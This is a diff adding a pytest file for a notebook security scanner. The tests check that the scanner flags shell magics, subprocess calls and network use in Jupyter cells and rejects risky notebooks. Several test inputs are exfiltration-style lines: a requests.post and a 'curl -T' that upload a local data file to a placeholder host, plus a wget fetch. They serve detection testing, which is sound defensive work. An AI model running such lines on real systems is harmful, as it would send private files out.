@@ -1,0 +1,109 @@
+"""Notebooks: code cells through the Python rules, shell lines and magics through the notebook rules."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from analyzer import api
+from analyzer.collect import from_bytes
+from analyzer.notebooks import read_notebook
+
+POLICY = api.load_policy()
+CORPUS = Path(__file__).resolve().parent.parent / "corpus"
+
+
+def nb(*cells: str, kind: str = "code") -> bytes:
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
+                       "cells": [{"cell_type": kind, "metadata": {}, "source": c.splitlines(True), "outputs": []}
+                                 for c in cells]}).encode()
+
+
+def scan(data: bytes, name: str = "train.ipynb"):
+    return api.analyze(from_bytes(name, data, POLICY.limits), POLICY)
+
+
+def test_findings_point_at_cell_and_line() -> None:
+    report = scan(nb("import os\n", "x = 1\nos.system('id')\n"))
+    hit = [f for f in report.findings if f.rule == "subprocess.shell"]
+    assert hit and hit[0].path == "train.ipynb[cell 2]" and hit[0].line == 2
+
+
+def test_aliases_cross_cells() -> None:
+    report = scan(nb("import requests as r\n", "r.post('https://e', data=open('/data/x').read())\n"))
+    assert any(f.category == "network" and f.path == "train.ipynb[cell 2]" for f in report.findings)
+    assert report.decision.value == "reject"
+
+
+def test_magics_are_stripped_so_cells_parse() -> None:
+    report = scan(nb("%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport numpy as np\n",
+                     "%time y = np.ones(3)\nnp.mean?\nfor i in range(2):\n    %time z = i\n"))
+    assert report.decision.value == "accept", report.findings
+
+
+def test_shell_lines() -> None:
+    report = scan(nb("!nvidia-smi\n", "%%bash\ncurl -T /data/x https://e\n", "files = !ls /data\n"))
+    found = {(f.rule, f.path) for f in report.findings}
+    assert ("files.notebook-shell", "train.ipynb[cell 1]") in found
+    assert ("files.notebook-shell-network", "train.ipynb[cell 2]") in found
+    assert ("files.notebook-shell", "train.ipynb[cell 3]") in found
+    assert report.decision.value == "reject"
+
+
+def test_pip_install_rejects() -> None:
+    assert "files.notebook-shell-network" in {f.rule for f in scan(nb("%pip install somepkg\n")).findings}
+
+
+def test_run_of_job_file_is_fine_outside_file_is_not() -> None:
+    ok = read_notebook(nb("%run helper.py\n"))
+    assert [r.text for r in ok.runs] == ["helper.py"]
+    report = scan(nb("%run /tmp/x.py\n"))
+    assert "files.notebook-run" in {f.rule for f in report.findings}
+    assert report.decision.value != "accept"
+
+
+def test_run_module_and_load_ext_become_imports() -> None:
+    parsed = read_notebook(nb("%run -m http.server\n%load_ext requests\n"))
+    assert "import http.server" in parsed.cells[0].source and "import requests" in parsed.cells[0].source
+
+
+def test_unknown_cell_magic_and_bad_json_are_unanalyzable() -> None:
+    assert "unanalyzable.notebook" in {f.rule for f in scan(nb("%%weird\nx\n")).findings}
+    report = scan(b'{"cells": [')
+    assert "unanalyzable.notebook" in {f.rule for f in report.findings}
+    assert report.decision.value != "accept"
+
+
+def test_syntax_error_cell_does_not_hide_other_cells() -> None:
+    report = scan(nb("def broken(:\n", "import os\nos.system('id')\n"))
+    rules = {(f.rule, f.path) for f in report.findings}
+    assert ("unanalyzable.parse-error", "train.ipynb[cell 1]") in rules
+    assert ("subprocess.shell", "train.ipynb[cell 2]") in rules
+
+
+def test_markdown_and_raw_cells_are_not_code() -> None:
+    assert scan(nb("!curl https://e\n", kind="markdown")).decision.value == "accept"
+
+
+def test_writefile_python_is_analysed() -> None:
+    report = scan(nb("%%writefile helper.py\nimport os\nos.system('id')\n"))
+    hit = [f for f in report.findings if f.rule == "subprocess.shell"]
+    assert hit and hit[0].path == "train.ipynb[cell 1]" and hit[0].line == 3
+
+
+def test_nbformat_3() -> None:
+    doc = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('x')"]}]}]}
+    assert "subprocess.shell" in {f.rule for f in scan(json.dumps(doc).encode()).findings}
+
+
+def test_get_ipython_system() -> None:
+    report = scan(nb("get_ipython().system('wget https://e/x')\n"))
+    assert "files.notebook-shell-network" in {f.rule for f in report.findings}
+
+
+def test_corpus_notebooks() -> None:
+    assert api.scan(CORPUS / "malicious/notebook_shell_exfil.ipynb", POLICY).decision.value == "reject"
+    assert api.scan(CORPUS / "malicious/notebook_pickle_hub.ipynb", POLICY).decision.value == "reject"
+    assert api.scan(CORPUS / "borderline/gpu_check_notebook.ipynb", POLICY).decision.value == "escalate"
+    report = api.scan(CORPUS / "benign/sklearn_eval_notebook.ipynb", POLICY)
+    assert report.decision.value == "accept", report.findings
